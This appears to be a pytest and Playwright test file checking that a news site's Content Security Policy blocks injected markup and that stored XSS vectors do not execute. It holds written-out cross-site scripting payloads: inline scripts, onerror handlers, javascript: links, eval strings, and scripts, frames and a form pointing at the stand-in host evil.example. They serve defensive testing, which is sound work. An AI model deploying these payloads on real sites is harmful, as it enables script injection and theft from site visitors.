"""In a real browser: the policy bites what gets into a page; without the policy nothing runs on the pages either.

What runs would open a dialog, since that is what each vector does, or ask a stranger's server for something.
"""

import re
from urllib.parse import urlsplit

import pytest

from corrections.text import quoted
from tests.hostile.strict import vectors

VECTORS = [vector for vector in vectors() if "\0" not in vector]
RAN = "window.ran = (window.ran || []).concat('{}')"
INJECTED = {
    "an inline script": (f"<script>{RAN.format('script')}</script>", "script-src"),
    "an inline handler": (f'<img src=/healthz onerror="{RAN.format("handler")}">', "script-src"),
    "a foreign script": ("<script src=https://evil.example/x.js></script>", "script-src"),
    "a script in an address": ("<script src='data:text/javascript,window.ran=1'></script>", "script-src"),
    "an inline style": ("<style>body { display: none }</style>", "style-src"),
    "a style in an attribute": ("<p style='position: fixed'>x</p>", "style-src"),
    "a foreign style": ("<link rel=stylesheet href=https://evil.example/x.css>", "style-src"),
    "a foreign frame": ("<iframe src=https://evil.example/></iframe>", "frame-src"),
    "a frame of our own": ("<iframe src=/></iframe>", "frame-src"),
    "a frame with its page": ("<iframe srcdoc='<script>top.ran=1</script>'></iframe>", "script-src"),
    "a plug-in": ("<object data=https://evil.example/x.swf></object>", "object-src"),
    "another base": ("<base href=https://evil.example/>", "base-uri"),
    "a sound": ("<audio src=https://evil.example/x.wav autoplay></audio>", "media-src"),
    "a picture over plain HTTP": ("<img src=http://evil.example/x.png>", "img-src"),
}

EVALS = """
window.told = [];
for (const run of [() => eval("1"), () => new Function("1")(), () => setTimeout("window.ran = 1")]) {
  try { run(); } catch (error) { window.told.push(error.name); }
}
"""


@pytest.fixture
def bare(chromium, server):
    """A reader's window of which the test hears everything by itself, with the policy or, where it says so, without."""
    contexts = []

    def bare(**options):
        context = chromium.new_context(base_url=server.address, **options)
        context.add_init_script(
            "window.broken = [];"
            "addEventListener('securitypolicyviolation', (event) => window.broken.push(event.violatedDirective))"
        )
        contexts.append(context)
        return context.new_page()

    yield bare
    for context in contexts:
        context.close()


def injected(page, path, markup):
    """The page as the server sends it, its headers too, with this in its body."""

    def answer(route):
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</main>", f"{markup}</main>"))

    page.route(lambda address: urlsplit(address).path == path, answer)
    page.goto(path)


@pytest.mark.parametrize("name", INJECTED)
def test_the_policy_bites_what_gets_into_a_page(bare, name):
    markup, directive = INJECTED[name]
    page = bare()
    asked, told = [], []
    page.on("request", lambda one: asked.append(one))
    page.on("console", lambda message: told.append(message.text))
    injected(page, "/sign-in/", markup)
    until(page, lambda: any("Content Security Policy" in one for one in told))
    assert any(directive in one for one in told), told
    assert page.evaluate("window.ran") is None
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    strangers = [one for one in asked if urlsplit(one.url).hostname not in ("127.0.0.1", None)]
    until(page, lambda: all(one.failure for one in strangers))
    assert [one.url for one in strangers if "csp" not in one.failure.lower()] == []  # none was sent


def until(page, holds):
    """Wait as long as something does not hold, without asking the page to evaluate words, which it refuses."""
    for _ in range(300):
        if holds():
            return
        page.wait_for_timeout(50)
    pytest.fail("Nothing happened.")


def test_the_policy_bites_eval_in_a_script_of_our_own(bare):
    page = bare()
    page.route("**/x.js", lambda route: route.fulfill(content_type="text/javascript", body=EVALS))
    injected(page, "/sign-in/", "<script src=/x.js></script>")
    until(page, lambda: page.evaluate("(window.told || []).length") >= 2)
    assert page.evaluate("window.told.slice(0, 2)") == ["EvalError", "EvalError"]
    assert page.evaluate("window.ran") is None


def test_the_policy_bites_an_address_that_runs_and_a_form_that_leads_away(bare):
    page = bare()
    injected(
        page,
        "/sign-in/",
        f'<a id=runs href="javascript:{RAN.format("link")}">x</a>'
        "<form action=https://evil.example/ method=post><button id=leads>x</button></form>",
    )
    page.locator("#runs").click()
    until(page, lambda: page.evaluate("window.broken.length") >= 1)
    page.locator("#leads").click(no_wait_after=True)
    until(page, lambda: page.evaluate("window.broken.length") >= 2)
    assert {"script-src-elem", "form-action"} <= set(page.evaluate("window.broken"))
    assert page.evaluate("window.ran") is None
    assert urlsplit(page.url).hostname == "127.0.0.1"


def test_no_other_page_frames_ours(bare, server):
    page = bare()
    page.route(
        "**/other", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{server.address}/'>")
    )
    page.goto("/other")
    page.wait_for_timeout(300)
    framed = page.frames[1]
    assert "Example News" not in framed.content()


# Without the policy


@pytest.fixture(scope="module")
def hostile(desk):
    """The addresses of articles that have all vectors in them, several in each, with notes about them."""
    addresses = []
    for start in range(0, len(VECTORS), 30):
        some = VECTORS[start : start + 30]
        title = " ".join(" ".join(some[:6]).split())[:300]
        body = "\n\n".join(["It was written in the year 1987 by somebody.", *some, ""])
        front = f"---\ntitle: {quoted(title)}\nauthor: {quoted(some[0])}\n---\n\n"
        slug = desk.article(front + body, public=True)
        addresses += [f"/articles/{slug}/", f"/articles/{slug}/?view=comparison", f"/desk/articles/{slug}/"]
        # What leaves a comment open takes no notice behind it, so that the notices have an article of their own.
        slug = desk.article(f"{front}It was written in the year 1987 by somebody.\n", public=True)
        wording = " ".join(some).replace("{", "(").replace("}", ")").replace("[", "(")[:2900]
        right = next((one for one in some if one.isprintable()), "1986")
        note = desk.draft(slug, "1987", right, wording, source_title=some[2][:400], memo=wording)
        desk.publish(slug, note)
        addresses += [f"/articles/{slug}/", f"/articles/{slug}/?view=comparison", f"/desk/articles/{slug}/"]
    return addresses


def test_nothing_runs_without_the_policy_either(bare, signed_in, hostile):
    page = bare(bypass_csp=True, storage_state=signed_in)
    heard = []

    def dialog(one):
        heard.append(f"dialog {one.message} at {page.url}")
        one.dismiss()

    def request(one):
        host = urlsplit(one.url).hostname
        if host not in (None, "127.0.0.1") and one.resource_type != "image":
            heard.append(f"asked {one.url} at {page.url}")

    page.on("dialog", dialog)
    page.on("request", request)
    page.on("popup", lambda one: heard.append(f"window {one.url}"))
    # The trap works: the same words as HTML of our own do open it.
    page.goto("/healthz")
    page.set_content("<img src=x onerror=alert(1)>")
    page.wait_for_timeout(300)
    assert len(heard) == 1
    heard.clear()
    pages = 0
    for address in [*hostile, "/", "/corrections/", "/desk/", "/desk/review/"]:
        page.goto(address)
        assert page.title()
        # What a reader would touch, touched.
        page.evaluate(
            "document.querySelectorAll('main *').forEach((one) => {"
            " for (const name of ['mouseover', 'focus', 'pointerenter', 'animationstart', 'toggle', 'error', 'load'])"
            " one.dispatchEvent(new Event(name)); })"
        )
        for scheme in page.evaluate("[...document.links].map((one) => one.protocol)"):
            assert scheme in ("http:", "https:", "mailto:", "tel:", ":"), address  # ":" leads nowhere
        pages += 1
    page.wait_for_timeout(500)
    assert heard == []
    assert pages > 40


def test_what_is_written_and_read_again_by_the_page_does_not_run(bare, hostile):
    """A script that puts a page's HTML into itself anew, as htmx does with a part of it, wakes nothing up."""
    page = bare(bypass_csp=True)
    heard = []
    page.on("dialog", lambda one: heard.append(one.message) or one.dismiss())
    for address in [one for one in hostile if re.match("/articles/[^?]+$", one)]:
        page.goto(address)
        page.evaluate("document.body.innerHTML = document.body.innerHTML")
        page.evaluate("document.body.innerHTML = document.body.innerHTML.replaceAll('&amp;', '&amp;')")
    page.wait_for_timeout(300)
    assert heard == []
